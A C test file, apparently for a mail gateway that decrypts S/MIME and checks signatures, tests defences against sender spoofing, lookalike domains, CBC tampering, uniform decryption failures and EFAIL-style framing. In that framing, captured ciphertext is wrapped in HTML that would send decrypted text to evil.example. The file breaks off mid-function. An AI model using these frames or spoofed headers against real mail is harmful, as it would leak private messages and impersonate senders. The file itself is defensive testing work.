/*
 * Attacks on who decrypts and verifies for others, each told by what leaves the gateway: no plain text in a
 * frame that somebody else wrote, no valid signature for another identity, nothing that tells how a
 * decryption failed.
 */
#include "mail_world.h"

#include "base/clock.h"
#include "mail/transfer_encoding.h"

static struct world w;

#define ALICE   "alice@ours.example"
#define BOB     "bob@partner.example"
#define MALLORY "mallory@partner.example"
#define SECRET  "the launch code is 0000"
#define BY_BOB  "X-Sealpost-Signature: valid; signer=bob@partner.example;"

static const char *const to_alice[] = {ALICE, NULL};
static const char secret[] = "Content-Type: text/plain\r\n\r\n" SECRET "\r\n";

static int set_up(void **state)
{
    static const struct identity people[] = {
        {.name = "alice", .address = ALICE, .days = 300, .with_key = true},
        {.name = "dave", .address = "dave@ours.example", .days = 300, .with_key = true},
        {.name = "bob", .address = BOB, .days = 300},
        {.name = "mallory", .address = MALLORY, .days = 300},
    };
    (void)state;
    world_make_with(&w, people, sizeof people / sizeof people[0]);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    world_end(&w);
    return 0;
}

static void starts_with(struct slice content, const char *text)
{
    if (!slice_starts_with(content, slice_of_text(text))) {
        print_error("wanted %s, got %.*s\n", text, SLICE_ARGS(content));
        fail();
    }
}

/* --- making messages --- */

/* The file `made` becomes: signed by one, encrypted to one, as the letters say: "sb" signed by bob, "ea"
 * encrypted to alice (CBC), "ga" with GCM, "ob" signed opaquely. */
static void wrap(const char *steps)
{
    for (; *steps != '\0'; steps += 2) {
        const char *who = steps[1] == 'b'   ? "bob"
                          : steps[1] == 'm' ? "mallory"
                          : steps[1] == 'd' ? "dave"
                                            : "alice";
        if (steps[0] == 's' || steps[0] == 'o') {
            world_shell(&w,
                        "sed -i 's/\\r$//; s/$/\\r/' made && openssl cms -sign -binary %s -in made -signer "
                        "%s.pem -inkey %s.key -out next && mv "
                        "next made",
                        steps[0] == 'o' ? "-nodetach" : "", who, who);
        } else {
            world_shell(&w, "openssl cms -encrypt -binary -in made %s -out next %s.pem && mv next made",
                        steps[0] == 'g' ? "-aes-256-gcm" : "-aes256", who);
        }
    }
}

/* What comes of `entity` wrapped and sent to alice with this header. */
static struct slice received(const char *entity, const char *steps, const char *header)
{
    struct buf message = BUF_INIT((size_t)1 << 24);
    world_file_write(&w, "made", slice_of_text(entity));
    wrap(steps);
    OK(buf_append_text(&message, header));
    world_message_read(&w, "made", &message);
    world_process(&w, BOB, to_alice, buf_slice(&message));
    buf_release(&message);
    return world_accepted(&w);
}

/* A message whose whole is this CMS object. */
static void message_of(struct slice der, struct buf *message)
{
    OK(buf_append_text(message, "From: bob@partner.example\r\nContent-Type: application/pkcs7-mime\r\n"
                                "Content-Transfer-Encoding: base64\r\n\r\n"));
    OK(base64_lines_encode(der, message));
}

/* --- identities --- */

/* Signed by bob; whatever From says, the signature is bob's or nobody's. */
static void a_signature_is_valid_for_nobody_else(void **state)
{
    (void)state;
    static const struct {
        const char *header;
        bool valid;
    } table[] = {
        {"From: bob@partner.example\r\n", true},
        {"From: \"Bob\" <BOB@Partner.Example>\r\n", true},
        {"From: bob@partner.example (ceo@ours.example)\r\n", true},
        {"From: \"ceo@ours.example\" <bob@partner.example>\r\n", true},
        {"From: =?utf-8?Q?ceo=40ours.example?= <bob@partner.example>\r\n", true},
        {"From: bob@partner.example\r\nSender: mallory@partner.example\r\n", true},
        {"Subject: no From\r\n", false},
        {"From:\r\n", false},
        {"From: ceo@ours.example\r\n", false},
        {"From: ceo@ours.example\r\nSender: bob@partner.example\r\n", false},
        {"From: ceo@ours.example\r\nResent-From: bob@partner.example\r\nReply-To: bob@partner.example\r\n",
         false},
        {"From: ceo@ours.example\r\nFrom: bob@partner.example\r\n", false},
        {"From: bob@partner.example\r\nfrom : ceo@ours.example\r\n", false},
        {"From: bob@partner.example, ceo@ours.example\r\n", false},
        {"From: ceo@ours.example, bob@partner.example\r\n", false},
        {"From: Team: bob@partner.example;\r\n", false},
        {"From: bob@partner.example: ceo@ours.example;\r\n", false},
        {"From: ceo@ours.example <bob@partner.example>\r\n", false},
        {"From: <bob@partner.example> <ceo@ours.example>\r\n", false},
        {"From: <bob@partner.example> ceo@ours.example\r\n", false},
        {"From: <@partner.example:ceo@ours.example>\r\n", false},
        {"From: =?utf-8?Q?bob=40partner.example?= <ceo@ours.example>\r\n", false},
        {"From: =?utf-8?Q?bob=40partner.example?=\r\n", false},
        {"From: (bob@partner.example) ceo@ours.example\r\n", false},
        {"From: bob@partner.example@ours.example\r\n", false},
        {"From: bob@partner.example.\r\n", true}, /* the same domain, with the root's dot */
        {"From: bob@partner.example.evil.example\r\n", false},
        {"From: bob@evil.example\r\n", false},
        {"From: b\xc3\xb6"
         "b@partner.example\r\n",
         false},
        {"From: bob@p\xd0\xb0rtner.example\r\n", false}, /* a Cyrillic a */
        {"From: bob@xn--prtner-2of.example\r\n", false},
        {"From: bob@partner\xe3\x80\x82"
         "example\r\n",
         false}, /* an ideographic full stop */
        {"From: bob@partner.example\x7f\r\n", false},
        {"From: \x01"
         "bob@partner.example\r\n",
         false},
        {"From: \"bob@partner.example\"@ours.example\r\n", false},
        {"From: \"bob\\@partner.example\r\n", false},
        {"no field\r\nFrom: bob@partner.example\r\n", false},
        {"From: bob@partner.example\r\n <ceo@ours.example>\r\n", false},
    };
    for (int encrypt = 0; encrypt < 2; encrypt++) {
        for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
            struct slice content = received("Content-Type: text/plain\r\n\r\nwords\r\n",
                                            encrypt ? "sbea" : "sb", table[i].header);
            bool valid = slice_starts_with(content, SLICE_LITERAL("X-Sealpost-Signature: valid"));
            bool by_bob = slice_starts_with(content, SLICE_LITERAL(BY_BOB));
            if (valid != table[i].valid || valid != by_bob) {
                print_error("row %zu (%s): %.*s\n", i, table[i].header, SLICE_ARGS(content));
                fail();
            }
        }
    }
}

static void with_nul(void **state)
{
    (void)state;
    struct buf message = BUF_INIT((size_t)1 << 20);
    world_file_write(&w, "made", SLICE_LITERAL("Content-Type: text/plain\r\n\r\nwords\r\n"));
    wrap("sb");
    OK(buf_append(&message, "From: bob@partner.example\0@evil.example\r\n", 41));
    world_message_read(&w, "made", &message);
    world_process(&w, BOB, to_alice, buf_slice(&message));
    assert_false(
        w.out.result.status == STATUS_OK &&
        slice_starts_with(buf_slice(&w.out.contents[0]), SLICE_LITERAL("X-Sealpost-Signature: valid")));
    buf_release(&message);
}

/* Certificates of a CA that is trusted, and what they may speak for (RFC 8550 section 3, RFC 9598). */
static void a_certificate_speaks_for_its_addresses(void **state)
{
    (void)state;
    static const struct {
        const char *subject, *san, *from;
        bool valid;
    } table[] = {
        {"/CN=a", "email:eve@partner.example", "eve@partner.example", true},
        {"/CN=a", "email:eve@partner.example,email:ann@partner.example", "ann@partner.example", true},
        {"/CN=a/emailAddress=eve@partner.example", "DNS:x.example", "eve@partner.example", true},
        {"/CN=a", "DNS:partner.example", "eve@partner.example", false}, /* a whole domain's */
        {"/CN=a", "email:partner.example", "eve@partner.example", false},
        {"/CN=a", "email:*@partner.example", "eve@partner.example", false},
        {"/CN=a", "email:.partner.example", "eve@partner.example", false},
        {"/CN=eve@partner.example", "DNS:x.example", "eve@partner.example", false},
        {"/CN=a", "URI:mailto:eve@partner.example", "eve@partner.example", false},
        {"/CN=a", "email:eve@partner.example.evil.example", "eve@partner.example", false},
        {"/CN=a", "otherName:1.3.6.1.5.5.7.8.9;UTF8:\xc3\xa9ve@partner.example", "eve@partner.example",
         false},
    };
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        char header[200];
        world_shell(
            &w,
            "printf '[e]\\nsubjectAltName=%s\\nextendedKeyUsage=emailProtection\\n' > e.ext && "
            "openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj '%s' -keyout eve.key "
            "-out eve.csr && openssl x509 -req -in eve.csr -CA ca.pem -CAkey ca.key -CAcreateserial -days "
            "300 "
            "-extfile e.ext -extensions e -out eve.pem",
            table[i].san, table[i].subject);
        world_file_write(&w, "plain", SLICE_LITERAL("Content-Type: text/plain\r\n\r\nwords\r\n"));
        world_shell(&w, "openssl cms -sign -binary -in plain -signer eve.pem -inkey eve.key -out made");
        struct buf message = BUF_INIT((size_t)1 << 20);
        assert_true(snprintf(header, sizeof header, "From: %s\r\n", table[i].from) > 0);
        OK(buf_append_text(&message, header));
        world_message_read(&w, "made", &message);
        world_process(&w, BOB, to_alice, buf_slice(&message));
        bool valid = slice_starts_with(world_accepted(&w), SLICE_LITERAL("X-Sealpost-Signature: valid"));
        if (valid != table[i].valid) {
            print_error("row %zu: %.*s\n", i, SLICE_ARGS(world_accepted(&w)));
            fail();
        }
        buf_release(&message);
    }
}

/* --- frames around what is encrypted or signed --- */

#define HTML_BEFORE "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n"
#define HTML_AFTER  "Content-Type: text/html\r\n\r\n\">\r\n"

/* %s is the captured message's content with its fields. */
static const char *const frames[] = {
    "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n" HTML_BEFORE "--x\r\n%s\r\n--x\r\n" HTML_AFTER
    "--x--\r\n",
    "Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\n" HTML_BEFORE "--x\r\n%s\r\n--x--\r\n",
    "Content-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n"
    "<iframe src=\"cid:1\"></iframe>\r\n--x\r\nContent-ID: <1>\r\n%s\r\n--x--\r\n",
    "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n%s\r\n--x--\r\n",
    "Content-Type: multipart/digest; boundary=x\r\n\r\n--x\r\n\r\n%s\r\n--x--\r\n",
    "Content-Type: message/rfc822\r\n\r\nFrom: bob@partner.example\r\n%s",
    "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n"
    "From: bob@partner.example\r\n%s\r\n--x--\r\n",
    "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; "
    "boundary=x\r\n\r\n--x\r\n%s\r\n--x\r\n"
    "Content-Type: application/pkcs7-signature\r\n\r\nbm8=\r\n--x--\r\n",
    "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
    "boundary=x\r\n\r\n--x\r\n%s\r\n--x\r\n"
    "Content-Type: application/pgp-signature\r\n\r\nno\r\n--x--\r\n",
    "Content-Type: multipart/encrypted; protocol=\"application/pkcs7-mime\"; "
    "boundary=x\r\n\r\n--x\r\n%s\r\n--x--\r\n",
    "Content-Type: multipart/report; report-type=delivery-status; boundary=x\r\n\r\n--x\r\n" HTML_BEFORE
    "--x\r\nContent-Type: message/rfc822\r\n\r\n%s\r\n--x--\r\n",
    "Content-Type: text/html\r\n%s", /* two Content-Type fields */
    "Content-Type: message/partial; id=a; number=1; total=1\r\n\r\n%s",
    "Content-Type: message/external-body; access-type=URL; URL=\"http://evil.example/\"\r\n\r\n%s",
    /* A reply that quotes it: what is answered to decrypt (RFC 9787 section 9). */
    "Content-Type: multipart/mixed; boundary=x\r\nIn-Reply-To: <1@ours.example>\r\n\r\n--x\r\nContent-Type: "
    "text/plain\r\n\r\n"
    "> as you wrote:\r\n--x\r\nContent-Disposition: attachment\r\n%s\r\n--x--\r\n",
};

static void framed(const char *frame, const char *file, struct buf *message)
{
    struct buf part = BUF_INIT((size_t)1 << 22);
    world_message_read(&w, file, &part);
    const char *at = strstr(frame, "%s");
    assert_non_null(at);
    OK(buf_append_text(message, "From: mallory@partner.example\r\nMIME-Version: 1.0\r\n"));
    OK(buf_append(message, frame, (size_t)(at - frame)));
    struct slice rest = buf_slice(&part);
    if (slice_starts_with(rest, SLICE_LITERAL("MIME-Version: 1.0\r\n"))) {
        rest = slice_of(rest.data + 19, rest.len - 19);
    }
    OK(buf_append_slice(message, rest));
    OK(buf_append_text(message, at + 2));
    buf_release(&part);
}

static void nothing_is_opened_in_a_frame(void **state)
{
    (void)state;
    for (int gcm = 0; gcm < 2; gcm++) {
        world_file_write(&w, "made", slice_of_text(secret));
        wrap(gcm ? "ga" : "sbea");
        for (size_t i = 0; i < sizeof frames / sizeof frames[0]; i++) {
            struct buf message = BUF_INIT((size_t)1 << 22);
            framed(frames[i], "made", &message);
            world_process(&w, MALLORY, to_alice, buf_slice(&message));
            struct slice content = world_accepted(&w);
            bool marked = slice_holds(content, "X-Sealpost-Encryption: none\r\n");
            if (slice_holds(content, SECRET) || !marked ||
                !slice_equal(slice_of(content.data + content.len - message.len, message.len),
                             buf_slice(&message))) {
                print_error("frame %zu: %.*s\n", i, SLICE_ARGS(content));
                fail();
            }
            buf_release(&message);
        }
    }
}

/* The frame itself encrypted to alice, with the captured message in it: that is mallory's text, and closed in
 * it is what he captured. */
static void nor_in_a_frame_that_is_encrypted(void **state)
{
    (void)state;
    world_file_write(&w, "made", slice_of_text(secret));
    wrap("ea");
    world_shell(&w, "cp made captured");
    for (size_t i = 0; i < 4; i++) {
        struct buf frame = BUF_INIT((size_t)1 << 22), message = BUF_INIT((size_t)1 << 22);
        framed(frames[i], "captured", &frame);
        world_file_write(&w, "made", buf_slice(&frame));
        wrap("ea");
        OK(buf_append_text(&message, "From: mallory@partner.example\r\n"));
        world_message_read(&w, "made", &message);
        world_process(&w, MALLORY, to_alice, buf_slice(&message));
        assert_true(slice_holds(world_accepted(&w), "X-Sealpost-Encryption: decrypted;"));
        assert_false(slice_holds(world_accepted(&w), SECRET));
        buf_release(&frame);
        buf_release(&message);
    }
}

static void a_signed_part_signs_no_frame(void **state)
{
    (void)state;
    static const char signed_by_bob[] = "Content-Type: text/plain\r\n\r\nI agree\r\n";
    world_file_write(&w, "made", slice_of_text(signed_by_bob));
    wrap("sb");
    for (size_t i = 0; i < sizeof frames / sizeof frames[0]; i++) {
        struct buf message = BUF_INIT((size_t)1 << 22);
        framed(frames[i], "made", &message);
        memcpy(message.data + 6, "bob@partner.example    ", 23); /* as if From bob */
        world_process(&w, MALLORY, to_alice, buf_slice(&message));
        assert_false(slice_holds(world_accepted(&w), "X-Sealpost-Signature: valid"));
        buf_release(&message);
    }
}

/* Variations of the form of multipart/signed: `from` in the message becomes `to`. */
static void another_form_is_another_message(void **state)
{
    (void)state;
    static const struct {
        const char *from, *to;
    } table[] = {
        {"Content-Type: multipart/signed;", "Content-Type: multipart/mixed;"},
        {"Content-Type: multipart/signed;", "Content-Type: text/html\r\nContent-Type: multipart/signed;"},
        {"protocol=\"application/pkcs7-signature\"", "protocol=\"application/pgp-signature\""},
        {"protocol=\"application/pkcs7-signature\"", "x=\"application/pkcs7-signature\""},
        {"I agree", "I never agree"},
        {"\r\n\r\nI agree", "\r\nX-Added: 1\r\n\r\nI agree"},
        {"Content-Type: application/pkcs7-signature", "Content-Type: application/octet-stream"},
        {"Content-Type: text/plain\r\n\r\nI agree", "Content-Type: text/html\r\n\r\nI agree"},
        {"boundary=\"", "boundary=\"x\"; boundary=\""},
    };
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        struct buf made = BUF_INIT((size_t)1 << 20), message = BUF_INIT((size_t)1 << 20);
        world_file_write(&w, "made", SLICE_LITERAL("Content-Type: text/plain\r\n\r\nI agree\r\n"));
        wrap("sb");
        world_message_read(&w, "made", &made);
        const uint8_t *at = memmem(made.data, made.len, table[i].from, strlen(table[i].from));
        if (at == NULL) {
            print_error("row %zu: %.*s\n", i, SLICE_ARGS(buf_slice(&made)));
            fail();
            return;
        }
        size_t before = (size_t)(at - made.data), behind = before + strlen(table[i].from);
        OK(buf_append_text(&message, "From: bob@partner.example\r\n"));
        OK(buf_append(&message, made.data, before));
        OK(buf_append_text(&message, table[i].to));
        OK(buf_append(&message, made.data + behind, made.len - behind));
        world_process(&w, BOB, to_alice, buf_slice(&message));
        assert_false(slice_holds(world_accepted(&w), "X-Sealpost-Signature: valid"));
        buf_release(&made);
        buf_release(&message);
    }
    /* Text before and behind the two parts is no part of what is signed, and a third part makes it none. */
    struct buf made = BUF_INIT((size_t)1 << 20);
    world_file_write(&w, "made", SLICE_LITERAL("Content-Type: text/plain\r\n\r\nI agree\r\n"));
    wrap("sb");
    OK(buf_append_text(&made, "From: bob@partner.example\r\n"));
    world_message_read(&w, "made", &made);
    uint8_t *end = memmem(made.data + made.len - 80, 80, "--\r\n", 4);
    assert_non_null(end);
    const uint8_t *line = memrchr(made.data, '\n', (size_t)(end - made.data));
    assert_non_null(line);
    struct buf third = BUF_INIT((size_t)1 << 20);
    OK(buf_append(&third, made.data, (size_t)(end - made.data)));
    OK(buf_append_text(&third, "\r\nContent-Type: text/html\r\n\r\n<b>and more</b>\r\n"));
    OK(buf_append(&third, line + 1, (size_t)(made.data + made.len - line - 1)));
    world_process(&w, BOB, to_alice, buf_slice(&third));
    starts_with(world_accepted(&w), "X-Sealpost-Signature: invalid");
    buf_release(&made);
    buf_release(&third);
}

/* --- layers --- */

static void layers_in_every_order(void **state)
{
    (void)state;
    static const struct {
        const char *steps, *signature, *encryption;
        bool open;
    } table[] = {
        {"ea", "none", "decrypted", true},
        {"sb", "valid; signer=bob@partner.example;", "none", true},
        {"sbea", "valid; signer=bob@partner.example;", "decrypted", true},
        {"obea", "valid; signer=bob@partner.example;", "decrypted", false},
        {"easb", "unknown; signer=bob@partner.example;", "decrypted", true},
        {"eaob", "unknown; signer=bob@partner.example;", "decrypted", true},
        {"sbeasb", "valid; signer=bob@partner.example;", "decrypted", true},
        {"smeasb", "mismatch; signer=mallory@partner.example;", "decrypted", true},
        {"sbeasbea", "valid; signer=bob@partner.example;", "decrypted", true},
        {"easbea", "unknown; signer=bob@partner.example;", "decrypted", true},
        {"gasbea", "unknown; signer=bob@partner.example;", "decrypted", true},
        {"eaeaeaeaeaeaeaea", "none", "decrypted", true},
        {"eaeaeaeaeaeaeaeaea", "invalid", "failed", false},
        {"sbsb", "valid; signer=bob@partner.example;", "none", true},
        {"ed", "none", "failed", false},
        {"edsb", "unknown; signer=bob@partner.example;", "failed", false},
        {"edea", "none", "decrypted", false},
    };
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        char signature[200], encryption[100];
        assert_true(snprintf(signature, sizeof signature, "X-Sealpost-Signature: %s", table[i].signature) >
                    0);
        assert_true(
            snprintf(encryption, sizeof encryption, "X-Sealpost-Encryption: %s", table[i].encryption) > 0);
        struct slice content = received(secret, table[i].steps, "From: bob@partner.example\r\n");
        if (!slice_starts_with(content, slice_of_text(signature)) || !slice_holds(content, encryption) ||
            slice_holds(content, SECRET) != table[i].open) {
            print_error("%s: %.*s\n", table[i].steps, SLICE_ARGS(content));
            fail();
        }
    }
    /* A signature around the encryption says who sealed it, which anybody can: it covers no content. */
    struct slice sealed = received(secret, "easb", "From: bob@partner.example\r\n");
    starts_with(sealed, "X-Sealpost-Signature: unknown; signer=bob@partner.example;");
    assert_true(slice_holds(sealed, "; covers=ciphertext\r\n"));
    assert_true(
        slice_holds(received(secret, "sbea", "From: bob@partner.example\r\n"), "; covers=content\r\n"));
    assert_true(
        slice_holds(received(secret, "edea", "From: bob@partner.example\r\n"), "; within=encrypted\r\n"));
    world_set(&w, SETTING_DOMAIN, "ours.example", "incoming.subject_tags", "yes");
    assert_false(slice_holds(received(secret, "easb", "From: bob@partner.example\r\n"), "[signed by"));
    world_set(&w, SETTING_DOMAIN, "ours.example", "incoming.subject_tags", "no");
}

/* Thousands of layers cost neither the stack nor much time. */
static void thousands_of_layers(void **state)
{
    (void)state;
    static const char *const levels[] = {
        "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; "
        "boundary=b%d\r\n\r\n--b%d\r\n",
        "Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n",
        "Content-Type: message/rfc822; x=b%d%d\r\n\r\n",
        "Content-Type: message/rfc822; forwarded=no; hp=\"cipher\"; x=b%d%d\r\n\r\n",
    };
    for (size_t n = 0; n < sizeof levels / sizeof levels[0]; n++) {
        struct buf text = BUF_INIT((size_t)1 << 22), message = BUF_INIT((size_t)1 << 22);
        for (int i = 0; i < 9000; i++) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
            OK(buf_printf(&text, levels[n], i, i));
#pragma GCC diagnostic pop
        }
        OK(buf_append_text(&message, "From: bob@partner.example\r\n"));
        OK(buf_append_slice(&message, buf_slice(&text)));
        uint64_t start = clock_wall_ms();
        world_process(&w, BOB, to_alice, buf_slice(&message));
        assert_false(slice_holds(world_accepted(&w), "X-Sealpost-Signature: valid"));
        world_file_write(&w, "made", buf_slice(&text));
        wrap("sbea");
        buf_reset(&message);
        OK(buf_append_text(&message, "From: bob@partner.example\r\n"));
        world_message_read(&w, "made", &message);
        world_process(&w, BOB, to_alice, buf_slice(&message));
        assert_true(slice_holds(world_accepted(&w), "X-Sealpost-Encryption: decrypted;"));
        assert_in_range(clock_wall_ms() - start, 0, 20000);
        buf_release(&text);
        buf_release(&message);
    }
}

/* --- cipher text that was changed --- */

/* CBC authenticates nothing: a changed block opens, and is marked, or refused where that is wanted. */
static void changed_blocks_are_marked(void **state)
{
    (void)state;
    static const char long_secret[] = "Content-Type: text/plain\r\n\r\n" SECRET
                                      " and some more words, so that there are blocks in the middle\r\n";
    static const char *const steps[] = {"ea", "sbea"};
    for (size_t i = 0; i < 2; i++) {
        struct buf der = BUF_INIT((size_t)1 << 20), message = BUF_INIT((size_t)1 << 20);
        world_file_write(&w, "made", slice_of_text(long_secret));
        wrap(steps[i]);
        world_shell(&w, "openssl cms -cmsout -in made -outform DER -out der");
        world_file_read(&w, "der", &der);
        der.data[der.len - 80] ^= 0x20; /* not in the last block, which holds the padding */
        message_of(buf_slice(&der), &message);
        world_process(&w, BOB, to_alice, buf_slice(&message));
        struct slice content = world_accepted(&w);
        starts_with(content, i == 0 ? "X-Sealpost-Signature: none" : "X-Sealpost-Signature: invalid");
        assert_true(slice_holds(
            content,
            "X-Sealpost-Encryption: decrypted; protocol=smime; cipher=aes256-cbc; authenticated=no\r\n"));
        world_set(&w, SETTING_DOMAIN, "ours.example", "decrypt.unauthenticated", "refuse");
        world_process(&w, BOB, to_alice, buf_slice(&message));
        assert_int_equal(w.out.result.status, STATUS_POLICY);
        assert_int_equal(w.out.result.variant_count, 0);
        world_set(&w, SETTING_DOMAIN, "ours.example", "decrypt.unauthenticated", "mark");
        buf_release(&der);
        buf_release(&message);
    }
    /* A signature within, or AES-GCM, says that nothing was changed. */
    world_set(&w, SETTING_DOMAIN, "ours.example", "decrypt.unauthenticated", "refuse");
    assert_false(slice_holds(received(secret, "sbea", "From: bob@partner.example\r\n"), "authenticated="));
    assert_false(slice_holds(received(secret, "ga", "From: bob@partner.example\r\n"), "authenticated="));
    world_set(&w, SETTING_DOMAIN, "ours.example", "decrypt.unauthenticated", "mark");
}

/* However a decryption fails, what leaves looks the same, and so does the refusal (RFC 3218). */
static void failures_look_alike(void **state)
{
    (void)state;
    static const char rsa_oid[] = "\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01";
    char first_reason[400] = "";
    for (int how = 0; how < 5; how++) {
        struct buf der = BUF_INIT((size_t)1 << 20), message = BUF_INIT((size_t)1 << 20);
        world_file_write(&w, "made", slice_of_text(secret));
        wrap(how == 4 ? "ed" : how == 3 ? "ga" : "ea");
        world_shell(&w, "openssl cms -cmsout -in made -outform DER -out der");
        world_file_read(&w, "der", &der);
        uint8_t *rsa = memmem(der.data, der.len, rsa_oid, 9);
        assert_non_null(rsa);
        switch (how) {
        case 0:
            der.data[der.len - 1] ^= 1; /* padding */
            der.data[der.len - 18] ^= 0x80;
            break;
        case 1:
            rsa[60] ^= 1; /* the key transport */
            break;
        case 2:
            der.data[der.len - 20] ^= 1; /* the block before the last: the padding's bytes */
            der.data[der.len - 17] ^= 0xff;
            break;
        case 3:
            der.data[der.len - 2] ^= 1; /* the tag */
            break;
        default: /* another's key */
            break;
        }
        message_of(buf_slice(&der), &message);
        world_process(&w, BOB, to_alice, buf_slice(&message));
        struct slice content = world_accepted(&w);
        if (slice_holds(content, "X-Sealpost-Encryption: decrypted")) { /* one of 256 opens to garbage */
            buf_release(&der);
            buf_release(&message);
            continue;
        }
        starts_with(content, "X-Sealpost-Signature: none\r\nX-Sealpost-Encryption: failed; "
                             "protocol=smime\r\nFrom: bob@partner.example\r\n");
        assert_int_equal(
            content.len,
            message.len +
                strlen("X-Sealpost-Signature: none\r\nX-Sealpost-Encryption: failed; protocol=smime\r\n"));
        world_set(&w, SETTING_DOMAIN, "ours.example", "decrypt.on_failure", "refuse");
        world_process(&w, BOB, to_alice, buf_slice(&message));
        assert_int_equal(w.out.result.status, STATUS_POLICY);
        struct slice reason = w.out.result.refusals[0].reason;
        if (first_reason[0] == '\0') {
            assert_true(reason.len < sizeof first_reason);
            memcpy(first_reason, reason.data, reason.len);
        }
        assert_slice(reason, first_reason);
        world_set(&w, SETTING_DOMAIN, "ours.example", "decrypt.on_failure", "deliver");
        buf_release(&der);
        buf_release(&message);
    }
}

/* --- captured messages sent again --- */

static void a_captured_message_is_nobodys_word(void **state)
{
    (void)state;
    /* Unsigned, under mallory's name: it opens, and nothing says that it is from anybody. */
    struct slice content =
        received(secret, "ea", "From: mallory@partner.example\r\nReply-To: mallory@evil.example\r\n");
    starts_with(content, "X-Sealpost-Signature: none\r\n");
    /* Signed by bob: mallory's name on it is a mismatch. */
    content = received(secret, "sbea", "From: mallory@partner.example\r\n");
    starts_with(content, "X-Sealpost-Signature: mismatch; signer=bob@partner.example;");
    /* Sealed by mallory around what he captured: his signature covers no content. */
    content = received(secret, "easm", "From: mallory@partner.example\r\n");
    starts_with(content, "X-Sealpost-Signature: unknown; signer=mallory@partner.example;");
    assert_true(slice_holds(content, "; covers=ciphertext\r\n"));
    /* To another of ours: only a recipient's own key opens. */
    struct buf message = BUF_INIT((size_t)1 << 20);
    world_file_write(&w, "made", slice_of_text(secret));
    wrap("ea");
    OK(buf_append_text(&message, "From: mallory@partner.example\r\n"));
    world_message_read(&w, "made", &message);
    world_process(&w, MALLORY, (const char *const[]){"dave@ours.example", NULL}, buf_slice(&message));
    assert_true(slice_holds(world_accepted(&w), "X-Sealpost-Encryption: failed;"));
    assert_false(slice_holds(world_accepted(&w), SECRET));
    /* Within a layer that dave's key opens: alice's layer stays closed to him. */
    wrap("ed");
    buf_reset(&message);
    OK(buf_append_text(&message, "From: mallory@partner.example\r\n"));
    world_message_read(&w, "made", &message);
    world_process(&w, MALLORY, (const char *const[]){"dave@ours.example", ALICE, NULL}, buf_slice(&message));
    for (size_t i = 0; i < w.out.result.variant_count; i++) {
        assert_false(slice_holds(buf_slice(&w.out.contents[i]), SECRET));
    }
    buf_release(&message);
}

/* Each with a key of his own opens the message for himself: what that costs in all has a bound, and is
 * refused with what would be right before it is spent. */
static void opening_for_many_is_bounded(void **state)
{
    (void)state;
    struct buf message = BUF_INIT((size_t)1 << 20);
    world_file_write(&w, "made", slice_of_text(secret));
    world_shell(&w,
                "openssl cms -encrypt -binary -in made -aes256 -out next alice.pem dave.pem && mv next made");
    OK(buf_append_text(&message, "From: bob@partner.example\r\n"));
    world_message_read(&w, "made", &message);
    const char *const both[] = {ALICE, "dave@ours.example", NULL};
    w.open_max = message.len * 2;
    world_process(&w, BOB, both, buf_slice(&message));
    assert_true(slice_holds(world_accepted(&w), SECRET));
    assert_int_equal(w.out.result.variant_count, 1); /* they found the same, and share it */
    w.open_max = message.len * 2 - 1;
    world_process(&w, BOB, both, buf_slice(&message));
    assert_int_equal(w.out.result.status, STATUS_TOO_LARGE);
    assert_int_equal(w.out.result.variant_count, 0);
    assert_true(slice_holds(w.out.result.text, "send it to at most 1 of them at a time"));
    world_process(&w, BOB, to_alice, buf_slice(&message)); /* and that is right */
    assert_true(slice_holds(world_accepted(&w), SECRET));
    w.open_max = 1; /* whatever the bound, one recipient gets his message */
    world_process(&w, BOB, to_alice, buf_slice(&message));
    assert_true(slice_holds(world_accepted(&w), SECRET));
    w.open_max = 0;
    buf_release(&message);
}

/* --- settings --- */

static void bad_signatures_are_put_aside_or_refused(void **state)
{
    (void)state;
    static const char plain[] = "Content-Type: text/plain\r\n\r\nwords\r\n";
    world_set(&w, SETTING_DOMAIN, "ours.example", "verify.on_invalid", "quarantine");
    (void)received(plain, "sm", "From: bob@partner.example\r\n");
    assert_true(w.out.result.variants[0].quarantine);
    assert_slice(w.out.result.variants[0].quarantine_reason, "the signature is mismatch (verify.on_invalid)");
    (void)received(plain, "sb", "From: bob@partner.example\r\n");
    assert_false(w.out.result.variants[0].quarantine);
    world_set(&w, SETTING_DOMAIN, "ours.example", "verify.on_invalid", "refuse");
    struct buf message = BUF_INIT((size_t)1 << 20);
    world_file_write(&w, "made", slice_of_text(plain));
    wrap("sm");
    OK(buf_append_text(&message, "From: bob@partner.example\r\n"));
    world_message_read(&w, "made", &message);
    world_process(&w, MALLORY, to_alice, buf_slice(&message));
    assert_int_equal(w.out.result.status, STATUS_POLICY);
    assert_true(slice_holds(w.out.result.refusals[0].reason,
                            "alice@ours.example: the signature of the message is not accepted: mismatch"));
    world_set(&w, SETTING_DOMAIN, "ours.example", "verify.on_invalid", "mark");
    world_set(&w, SETTING_DOMAIN, "ours.example", "decrypt.on_failure", "quarantine");
    (void)received(plain, "ed", "From: bob@partner.example\r\n");
    assert_true(w.out.result.variants[0].quarantine);
    world_set(&w, SETTING_DOMAIN, "ours.example", "decrypt.on_failure", "deliver");
    buf_release(&message);
}

static void signatures_are_removed_where_wanted(void **state)
{
    (void)state;
    static const char plain[] = "Content-Type: text/plain\r\n\r\nwords\r\n";
    static const char *const forms[] = {"sb", "ob", "sbea", "obea"};
    for (size_t i = 0; i < sizeof forms / sizeof forms[0]; i++) {
